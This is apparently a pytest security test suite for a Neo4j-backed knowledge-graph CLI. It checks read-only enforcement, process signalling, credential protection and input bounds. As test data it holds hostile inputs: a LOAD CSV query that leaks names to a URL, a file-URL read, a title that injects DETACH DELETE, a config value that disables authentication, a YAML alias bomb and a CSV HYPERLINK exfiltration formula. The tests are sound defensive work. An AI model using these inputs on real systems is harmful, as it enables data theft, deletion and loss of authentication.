"""Issue 14: read-only means no side effects; kg touches only what is its own.

Each test tries a hole on purpose, against the real test server where one is involved:
a read query that sends data out, commands that act on other clients, a stale pid, a
program squatting on the Bolt port, a failed start, hostile inputs and outputs.
"""

from __future__ import annotations

import http.server
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from conftest import CHECHNYA

from kg.cli import cli
from kg.errors import ConfigError
from kg.export import script_statements
from kg.loader import load
from kg.runtime import LocalNeo4j, proc_start_time

pytestmark = pytest.mark.neo4j

KG = str(Path(sys.executable).with_name("kg"))


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _local(neo4j_env) -> LocalNeo4j:
    return LocalNeo4j(Path(neo4j_env["KG_HOME"]), int(neo4j_env["KG_BOLT_PORT"]))


class Recorder:
    """A local web server that records every request it receives."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        rec = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                rec.requests.append(self.path)
                body = b"a,b\n1,2\n"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def web():
    r = Recorder()
    yield r
    r.close()


def _leak_query(port: int) -> str:
    return (
        f"MATCH (n:Person) LOAD CSV FROM 'http://127.0.0.1:{port}/x.csv?leak=' + n.name "
        "AS r RETURN r"
    )


# --- 1. read-only is enforced by the plan ---------------------------------------------------


def test_read_query_with_load_csv_is_refused_and_sends_nothing(store, runner, web, tmp_path):
    load(store, [CHECHNYA])
    res = runner.invoke(cli, ["cypher", _leak_query(web.port)])
    assert res.exit_code == 4 and "LoadCSV" in res.output, res.output
    # --write alone is not enough for LOAD CSV: outbound URLs need their own flag.
    res = runner.invoke(cli, ["cypher", "--write", _leak_query(web.port)])
    assert res.exit_code == 4 and "--allow-outbound-urls" in res.output, res.output
    res = runner.invoke(cli, ["cypher", "--allow-outbound-urls", _leak_query(web.port)])
    assert res.exit_code == 2
    # A saved query in a user folder (no mode line: read) is refused the same way.
    qdir = tmp_path / "q"
    qdir.mkdir()
    (qdir / "leak.cypher").write_text(
        "// name: leak\n// title: Innocent\n// category: mine\n// description: rows\n"
        + _leak_query(web.port)
        + "\n"
    )
    res = runner.invoke(cli, ["query", "run", "leak", "--queries", str(qdir)])
    assert res.exit_code == 4 and "LoadCSV" in res.output, res.output
    res = runner.invoke(
        cli,
        [
            "export",
            "json",
            "--out",
            str(tmp_path / "x.json"),
            "--query",
            "leak",
            "--queries",
            str(qdir),
        ],
    )
    assert res.exit_code == 4 and "LoadCSV" in res.output, res.output
    assert web.requests == []
    # The harness would have seen a leak: with both flags the server does fetch the URL.
    res = runner.invoke(
        cli,
        [
            "cypher",
            "--write",
            "--allow-outbound-urls",
            "LOAD CSV FROM $u AS r RETURN count(r) AS n",
            "-p",
            f'u="http://127.0.0.1:{web.port}/ok.csv"',
        ],
    )
    assert res.exit_code == 0, res.output
    assert web.requests == ["/ok.csv"]


def test_file_urls_are_off_in_neo4j_conf(store, runner, neo4j_env):
    conf = (_local(neo4j_env).conf_dir / "neo4j.conf").read_text()
    assert "dbms.security.allow_csv_import_from_file_urls=false" in conf
    res = runner.invoke(
        cli,
        [
            "cypher",
            "--write",
            "--allow-outbound-urls",
            "LOAD CSV FROM 'file:///etc/hostname' AS r RETURN r",
        ],
    )
    assert res.exit_code == 4, res.output


def test_a_user_query_may_not_shadow_a_bundled_one_unless_it_says_so(store, runner, web, tmp_path):
    qdir = tmp_path / "q"
    qdir.mkdir()
    body = (
        "// name: denials\n// title: Every denial\n// category: claims and denials\n"
        "// description: Who denied what.\n{extra}" + _leak_query(web.port) + "\n"
    )
    (qdir / "denials.cypher").write_text(body.format(extra=""))
    for args in (["query", "run", "denials"], ["query", "list"]):
        res = runner.invoke(cli, [*args, "--queries", str(qdir)])
        assert res.exit_code == 1, res.output
        assert "denials.cypher" in res.output and "overrides: true" in res.output
    (qdir / "denials.cypher").write_text(body.format(extra="// overrides: true\n"))
    res = runner.invoke(cli, ["query", "list", "--queries", str(qdir)])
    assert res.exit_code == 0 and "overrides the bundled query" in res.output, res.output
    load(store, [CHECHNYA])
    res = runner.invoke(cli, ["query", "run", "denials", "--queries", str(qdir)])
    assert res.exit_code == 4 and "LoadCSV" in res.output
    assert web.requests == []


@pytest.mark.parametrize(
    "query, operator",
    [
        ("TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "TerminateTransactions"),
        ("SHOW TRANSACTIONS", "ShowTransactions"),
        ("SHOW SETTINGS", "ShowSettings"),
        ("CALL dbms.listConfig()", "dbms.listConfig"),
        ("SHOW USERS", "AdministrationCommand"),
        ("CALL db.createLabel('X')", "db.createLabel"),
    ],
)
def test_commands_on_other_clients_are_refused_in_read_mode(store, runner, query, operator):
    res = runner.invoke(cli, ["cypher", query])
    assert res.exit_code == 4, res.output
    assert operator in res.output and "refused" in res.output


def test_what_saved_queries_need_still_runs(store, runner):
    load(store, [CHECHNYA])
    res = runner.invoke(cli, ["query", "run", "search", "-p", "q=Kadyrov", "--format", "json"])
    assert res.exit_code == 0, res.output
    res = runner.invoke(cli, ["cypher", "SHOW INDEXES YIELD name RETURN count(*) AS n"])
    assert res.exit_code == 0, res.output
    # --write lifts the read-mode refusals (not LOAD CSV): the user said so.
    res = runner.invoke(
        cli, ["cypher", "--write", "SHOW TRANSACTIONS YIELD transactionId RETURN count(*) AS n"]
    )
    assert res.exit_code == 0, res.output
    res = runner.invoke(cli, ["cypher", "EXPLAIN MATCH (n) RETURN n"])
    assert res.exit_code == 4 and "EXPLAIN" in res.output


# --- 2. kg signals only its own processes ---------------------------------------------------


def _stranger(*argv: str) -> subprocess.Popen:
    """A live process that is not kg's server, leader of its own process group."""
    return subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(120)", *argv], start_new_session=True
    )


def test_a_stale_state_file_never_signals_another_process(tmp_path, runner, monkeypatch):
    home = tmp_path / "home"
    local = LocalNeo4j(home, _free_port())
    monkeypatch.setenv("KG_HOME", str(home))
    monkeypatch.setenv("KG_BOLT_PORT", str(local.requested_port))
    monkeypatch.delenv("KG_NEO4J_URI", raising=False)
    strangers = [
        # an unrelated program whose pid was reused
        (_stranger(), None),
        # a Neo4j-looking command line of another home
        (_stranger("org.neo4j.server.CommunityEntryPoint", "--home-dir=/elsewhere/neo4j"), None),
        # this home's command line, but started later than the server kg recorded
        (_stranger("org.neo4j.server.CommunityEntryPoint", f"--home-dir={local.root}"), -5),
    ]
    try:
        for proc, started_shift in strangers:
            time.sleep(0.3)
            started = proc_start_time(proc.pid)
            local.root.mkdir(parents=True, exist_ok=True)
            local._save_state(
                runtime="java",
                pid=proc.pid,
                pgid=proc.pid,
                port=local.requested_port,
                started=None if started_shift is None else started + started_shift,
                version="5.26.30",
            )
            # Even with the port answering (someone else's listener), status is not fooled.
            with socket.socket() as squat:
                squat.bind(("127.0.0.1", local.requested_port))
                squat.listen()
                res = runner.invoke(cli, ["db", "status"])
                assert res.exit_code == 0 and res.output.startswith("not running"), res.output
                res = runner.invoke(cli, ["db", "stop"])
                assert res.exit_code == 0 and res.output.strip() == "not running", res.output
            time.sleep(0.3)
            assert proc.poll() is None, "kg signalled a process that is not its server"
            assert "pid" not in local.state()  # the stale pid is forgotten
    finally:
        for proc, _ in strangers:
            proc.kill()
            proc.wait()


# --- 3. credentials only to kg's own server -------------------------------------------------


class FakeListener:
    """Listens on a port and records every byte a client sends; with ``tls`` it completes
    a TLS handshake with a certificate of its own (as a smarter squatter would)."""

    def __init__(self, port: int, tls_dir: Path | None = None) -> None:
        self.received = b""
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", port))
        self.sock.listen()
        self.ctx = None
        if tls_dir is not None:
            self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self.ctx.load_cert_chain(tls_dir / "public.crt", tls_dir / "private.key")
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        self.sock.settimeout(0.2)
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            threading.Thread(target=self._read, args=(conn,), daemon=True).start()

    def _read(self, conn: socket.socket) -> None:
        conn.settimeout(3)
        try:
            if self.ctx is not None:
                conn = self.ctx.wrap_socket(conn, server_side=True)
            while True:
                data = conn.recv(65536)
                if not data:
                    break
                self.received += data
                if self.ctx is None and self.received.startswith(b"\x60\x60\xb0\x17"):
                    # plain Bolt handshake: agree to version 5.0 so a client would go on
                    conn.sendall(b"\x00\x00\x00\x05")
        except (OSError, ssl.SSLError):
            pass
        finally:
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture
def scratch(neo4j_env):
    """A folder for homes whose Java must outlive a test's first second: under the test
    home, not /tmp/pytest-of-USER, which other pytest runs of the same user prune."""
    import uuid

    folder = Path(neo4j_env["KG_HOME"]) / "scratch" / uuid.uuid4().hex[:8]
    folder.mkdir(parents=True)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def _home_like(neo4j_env, tmp_path, port: int) -> LocalNeo4j:
    """A copy of the test server's home (its password and pinned certificate) whose server
    is down: what kg sees after `kg db stop`."""
    src = _local(neo4j_env)
    local = LocalNeo4j(tmp_path / "home", port)
    local.root.mkdir(parents=True)
    shutil.copy(src.password_file, local.password_file)
    shutil.copytree(src.cert_dir, local.cert_dir)
    for cp in src.root.glob("classpath-*.txt"):
        shutil.copy(cp, local.root / cp.name)
    return local


@pytest.mark.parametrize("tls", [False, True])
def test_a_squatter_on_the_port_never_receives_the_password(
    neo4j_env, tmp_path, runner, monkeypatch, tls
):
    port = _free_port()
    local = _home_like(neo4j_env, tmp_path, port)
    password = local.read_password().encode()
    monkeypatch.setenv("KG_HOME", str(local.home))
    monkeypatch.setenv("KG_BOLT_PORT", str(port))
    own_tls = None
    if tls:  # a squatter with a certificate of its own for 127.0.0.1
        other = LocalNeo4j(tmp_path / "other", port)
        other.ensure_certificate()
        own_tls = other.cert_dir
    fake = FakeListener(port, own_tls)
    try:
        res = runner.invoke(cli, ["cypher", "RETURN 1"])
        assert res.exit_code == 4, res.output
        assert f"port {port}" in res.output and "not by kg's Neo4j" in res.output, res.output
        assert "remove" not in res.output and "delete" not in res.output
        res = runner.invoke(cli, ["db", "start"])
        assert res.exit_code == 3 and f"port {port}" in res.output, res.output
        assert "remove" not in res.output and "delete" not in res.output
        time.sleep(0.5)
    finally:
        fake.close()
    assert password not in fake.received
    assert password not in res.output.encode()


def test_bolt_prefers_chacha20_under_the_client_compiler(tmp_path, neo4j_env, monkeypatch):
    """Under the client compiler alone (KG_NEO4J_JIT=quick, what an empty database starts
    with) Java's AES-GCM does not use the CPU's AES instructions: the server offers
    ChaCha20-Poly1305 first (kg.config.BOLT_CIPHERS); under C2, Java's own order."""
    import socket
    import ssl

    local = LocalNeo4j(tmp_path / "h", _free_port())
    monkeypatch.setenv("KG_NEO4J_JIT", "quick")
    conf = local.write_conf(local.requested_port).read_text()
    assert "\ndbms.ssl.policy.bolt.ciphers=TLS_CHACHA20_POLY1305_SHA256," in conf
    monkeypatch.setenv("KG_NEO4J_JIT", "full")
    assert "ciphers" not in local.write_conf(local.requested_port).read_text()
    # The running test server (an empty database: quick) agrees on it with Python's TLS.
    src = _local(neo4j_env)
    assert src.state().get("jit") == "quick"
    ctx = ssl.create_default_context(cafile=str(src.certificate))
    ctx.check_hostname = False
    with socket.create_connection(("127.0.0.1", src.requested_port), timeout=10) as raw:
        with ctx.wrap_socket(raw) as tls:
            assert tls.version() == "TLSv1.3"
            assert tls.cipher()[0] == "TLS_CHACHA20_POLY1305_SHA256"


def test_the_certificate_is_made_at_start_when_missing(tmp_path, neo4j_env):
    """A home made before kg used TLS gets its certificate at its next start (write_conf)."""
    local = LocalNeo4j(tmp_path / "old", _free_port())
    assert not local.certificate.exists() and local.tls_options() == {}
    conf = local.write_conf(local.requested_port).read_text()
    assert local.certificate.exists()
    assert oct((local.cert_dir / "private.key").stat().st_mode)[-3:] == "600"
    assert "server.bolt.tls_level=REQUIRED" in conf
    assert local.tls_options()["encrypted"] is True
    # The running test server answers only over TLS with its pinned certificate.
    from neo4j import GraphDatabase

    src = _local(neo4j_env)
    with pytest.raises(Exception):
        with GraphDatabase.driver(
            src.uri, auth=("neo4j", src.read_password()), connection_timeout=5
        ) as plain:
            plain.verify_connectivity()
    with src.driver() as pinned:
        pinned.verify_connectivity()


# --- 4. faults leave things usable ----------------------------------------------------------


def test_a_failed_start_says_why_and_leaves_no_java(neo4j_env, scratch, monkeypatch):
    """The port is taken after kg's check (a race): Java fails to bind. kg names the port,
    gives no advice about data, and leaves no Java running."""
    import kg.runtime as rt

    port = _free_port()
    local = _home_like(neo4j_env, scratch, port)
    shutil.rmtree(local.cert_dir)  # made again at start
    squat = socket.socket()
    squat.bind(("127.0.0.1", port))
    squat.listen()
    calls = {"n": 0}
    real_port_open = rt.port_open

    def first_check_misses(p: int, host: str = "127.0.0.1") -> bool:
        calls["n"] += 1
        return False if calls["n"] == 1 else real_port_open(p, host)

    monkeypatch.setattr(rt, "port_open", first_check_misses)
    try:
        with pytest.raises(rt.RuntimeUnavailable) as err:
            local.start()
    finally:
        squat.close()
    text = str(err.value)
    assert f"port {port}" in text and "no server was left running" in text, text
    assert "remove" not in text and "delete" not in text
    pid = local.state().get("pid")
    time.sleep(0.5)
    assert pid is None or not rt._pid_alive(pid)
    assert not local.status().running


def test_start_failure_cause_comes_from_this_runs_logs(tmp_path):
    local = LocalNeo4j(tmp_path / "h", _free_port())
    local.logs_dir.mkdir(parents=True)
    (local.logs_dir / "neo4j.log").write_text("ERROR old run: Address already in use\n")
    marks = local._log_marks()
    with open(local.logs_dir / "console.log", "a") as f:
        f.write(
            "INFO starting\nERROR Failed to start: java.io.IOException: No space left on device\n"
        )
    text = str(local.start_failure("Neo4j stopped while starting", 7687, marks))
    assert "No space left on device" in text and "console.log" in text
    assert "Address already in use" not in text  # an older run's line is not the cause
    assert "kg db restore" in text


def test_exports_are_atomic_and_private_when_confidential(store, runner, tmp_path, monkeypatch):
    import kg.export

    load(store, [CHECHNYA])
    out = tmp_path / "g.json"
    res = runner.invoke(cli, ["export", "json", "--out", str(out)])
    assert res.exit_code == 0, res.output
    good = out.read_bytes()
    assert oct(out.stat().st_mode)[-3:] != "600"

    def disk_full(self):
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as m:
        m.setattr(kg.export.JsonExporter, "finalize", disk_full)
        res = runner.invoke(cli, ["export", "json", "--out", str(out)])
    assert res.exit_code != 0 and "No space left" in res.output
    assert out.read_bytes() == good  # the previous file is intact
    assert sorted(p.name for p in tmp_path.iterdir()) == ["g.json"]  # no partial file
    res = runner.invoke(cli, ["export", "json", "--out", str(out), "--include-confidential"])
    assert res.exit_code == 0 and oct(out.stat().st_mode)[-3:] == "600"
    res = runner.invoke(
        cli, ["export", "csv", "--out", str(tmp_path / "csv"), "--include-confidential"]
    )
    assert res.exit_code == 0
    assert all(oct(p.stat().st_mode)[-3:] == "600" for p in (tmp_path / "csv").iterdir())
    res = runner.invoke(
        cli,
        [
            "cypher",
            "RETURN 1 AS x",
            "--out",
            str(tmp_path / "r.csv"),
            "--include-confidential",
            "--format",
            "csv",
        ],
    )
    assert res.exit_code == 0 and oct((tmp_path / "r.csv").stat().st_mode)[-3:] == "600"


def test_free_space_is_checked_before_writing(store, runner, tmp_path, monkeypatch):
    import kg.safeio

    monkeypatch.setattr(kg.safeio, "free_bytes", lambda folder: 10 * 2**20)
    out = tmp_path / "g.json"
    res = runner.invoke(cli, ["export", "json", "--out", str(out)])
    assert res.exit_code == 1 and "not enough free disk space" in res.output, res.output
    assert not out.exists()
    res = runner.invoke(cli, ["load", str(CHECHNYA)])
    assert res.exit_code == 1 and "not enough free disk space" in res.output, res.output
    assert store.counts()["nodes"] == {}
    res = runner.invoke(cli, ["db", "dump", "--out", str(tmp_path / "x.dump")])
    assert res.exit_code == 1 and "not enough free disk space" in res.output, res.output
    assert _local_running(store)


def _local_running(store) -> bool:
    return store.read("RETURN 1 AS x").records[0]["x"] == 1


# --- 5. every input bounded -----------------------------------------------------------------


def test_a_fifo_is_refused_by_name_never_a_hang(tmp_path):
    fifo = tmp_path / "records.yaml"
    os.mkfifo(fifo)
    case = tmp_path / "case"
    shutil.copytree(CHECHNYA, case)
    os.mkfifo(case / "more.jsonl")
    qdir = tmp_path / "q"
    qdir.mkdir()
    os.mkfifo(qdir / "x.cypher")
    for args in (
        ["validate", str(fifo)],
        ["validate", str(case)],
        ["query", "list", "--queries", str(qdir)],
    ):
        res = subprocess.run(
            [KG, *args],
            capture_output=True,
            text=True,
            timeout=60,
            env={**os.environ, "KG_NEO4J_URI": "bolt://127.0.0.1:1"},
        )
        assert res.returncode == 1, (args, res.stdout, res.stderr)
        assert "FIFO" in res.stderr and "not a regular file" in res.stderr, res.stderr


BOMB = "\n".join(
    [
        "// name: bomb",
        "// title: t",
        "// category: c",
        "// description: d",
        "// params:",
        '//   - &a ["x","x","x","x","x","x","x","x","x","x"]',
        *[
            f"//   - &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
            f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
            f"*{chr(97 + i)},*{chr(97 + i)}]"
            for i in range(8)
        ],
        "RETURN 1",
    ]
)


def test_an_alias_bomb_in_a_query_header_fails_with_a_located_error(tmp_path, runner):
    qdir = tmp_path / "q"
    qdir.mkdir()
    (qdir / "bomb.cypher").write_text(BOMB + "\n")
    t0 = time.process_time()
    res = runner.invoke(cli, ["query", "list", "--queries", str(qdir)])
    assert res.exit_code == 1, res.output
    assert f"{qdir / 'bomb.cypher'}:" in res.output and "too much data" in res.output
    assert time.process_time() - t0 < 30  # a bound, not a speed claim: it did not expand


def test_an_alias_bomb_in_a_mapping_fails_with_a_located_error(tmp_path, runner):
    mapping = tmp_path / "m.yaml"
    mapping.write_text(
        "\n".join(line[3:] for line in BOMB.splitlines()[4:-1]).replace("params:", "records:")
        + "\n"
    )
    sheet = tmp_path / "s.csv"
    sheet.write_text("a\n1\n")
    res = runner.invoke(cli, ["map", str(sheet), "--mapping", str(mapping)])
    assert res.exit_code == 1 and "m.yaml:" in res.output and "too much data" in res.output


@pytest.mark.parametrize(
    "value",
    ["1e999", "-1e999", "123456789012345678901234567890", "[1, 99999999999999999999]", "NaN"],
)
def test_numbers_out_of_range_are_refused_by_parameter_name(store, runner, value):
    res = runner.invoke(cli, ["cypher", "RETURN $x AS x", "-p", f"x={value}"])
    assert res.exit_code == 2, res.output
    assert "'x'" in res.output and "internal error" not in res.output


def test_typed_saved_query_numbers_are_bounded(runner, tmp_path, store):
    qdir = tmp_path / "q"
    qdir.mkdir()
    (qdir / "n.cypher").write_text(
        "// name: num\n// title: n\n// category: c\n// description: d\n"
        "// params:\n//   - {name: k, type: int}\n//   - {name: f, type: float, default: 1}\n"
        "RETURN $k AS k, $f AS f\n"
    )
    for p in ("k=123456789012345678901234567890", "f=1e999"):
        args = ["query", "run", "num", "--queries", str(qdir), "-p", "k=1", "-p", p]
        res = runner.invoke(cli, args)
        assert res.exit_code == 2 and f"'{p[0]}'" in res.output, res.output


def test_a_newline_in_a_title_never_makes_a_statement(store, runner, tmp_path):
    load(store, [CHECHNYA])
    plain, evil = tmp_path / "plain.cypher", tmp_path / "evil.cypher"
    assert runner.invoke(cli, ["export", "cypher", "--out", str(plain)]).exit_code == 0
    title = "Report\nMATCH (n) DETACH DELETE n;\r\u2028CREATE (:X);"
    res = runner.invoke(cli, ["export", "cypher", "--out", str(evil), "--title", title])
    assert res.exit_code == 0, res.output
    assert script_statements(evil.read_text()) == script_statements(plain.read_text())
    assert not any(ln.startswith("MATCH (n) DETACH") for ln in evil.read_text().splitlines())
    # A saved query's title is one line too (it shows in `kg query list` and exports).
    qdir = tmp_path / "q"
    qdir.mkdir()
    (qdir / "t.cypher").write_text(
        '// name: t\n// title: "Fine\\n  denials    Every denial"\n'
        "// category: c\n// description: d\nRETURN 1\n"
    )
    res = runner.invoke(cli, ["query", "list", "--queries", str(qdir)])
    assert res.exit_code == 1 and "t.cypher:2" in res.output and "one line" in res.output


def test_environment_values_are_checked_and_the_server_env_is_minimal(
    neo4j_env, tmp_path, monkeypatch
):
    local = LocalNeo4j(tmp_path / "h", _free_port())
    monkeypatch.setenv("KG_NEO4J_PAGECACHE", "256m\ndbms.security.auth_enabled=false")
    with pytest.raises(ConfigError, match="KG_NEO4J_PAGECACHE"):
        local.write_conf(local.requested_port)
    monkeypatch.setenv("KG_NEO4J_PAGECACHE", "256m")
    monkeypatch.setenv("KG_NEO4J_HEAP", "1g -Dx=y")
    with pytest.raises(ConfigError, match="KG_NEO4J_HEAP"):
        local.admin("--version")
    monkeypatch.setenv("SOME_CLOUD_TOKEN", "tok-123")
    env = local.java_env()
    assert "SOME_CLOUD_TOKEN" not in env and "KG_HOME" not in env and "NEO4J_HOME" in env
    # The running test server was started with KG_HOME and KG_BOLT_PORT set: it never saw them.
    pid = _local(neo4j_env).state()["pid"]
    environ = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
    assert not any(v.startswith((b"KG_HOME=", b"KG_BOLT_PORT=")) for v in environ)


# --- 6. outputs safe for their readers ------------------------------------------------------


def test_formula_cells_are_neutralized_in_csv_results_only(store, runner, tmp_path):
    evil = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")'
    store.write("CREATE (:Entity:Person {id: 'p-evil', name: $n, cases: ['c']})", {"n": evil})
    res = runner.invoke(
        cli,
        [
            "cypher",
            "MATCH (p:Person) RETURN p.name AS name, -3 AS n, '+1' AS a, '@x' AS b, '\\tt' AS c",
            "--format",
            "csv",
        ],
    )
    assert res.exit_code == 0, res.output
    import csv as _csv
    import io

    rows = list(_csv.reader(io.StringIO(res.output)))
    assert rows[1] == ["'" + evil, "-3", "'+1", "'@x", "'\tt"]
    # Files for neo4j-admin import stay exact.
    res = runner.invoke(cli, ["export", "csv", "--out", str(tmp_path / "csv")])
    assert res.exit_code == 0
    nodes = list(_csv.reader((tmp_path / "csv" / "nodes.csv").open()))
    assert any(evil in row for row in nodes)


def test_a_password_in_the_uri_never_appears(runner, monkeypatch):
    secret = "s3cret-in-uri"
    for uri in (
        f"bolt://neo4j:{secret}@127.0.0.1:1",
        f"bolt://neo4j:{secret}@127.0.0.1:notaport",
        f"neo4j+s://neo4j:{secret}@db.example.invalid:7687",
    ):
        monkeypatch.setenv("KG_NEO4J_URI", uri)
        for args in (
            ["cypher", "RETURN 1"],
            ["db", "status"],
            ["db", "status", "--json"],
            ["query", "run", "denials"],
        ):
            res = runner.invoke(cli, args)
            assert secret not in res.output, (uri, args, res.output)
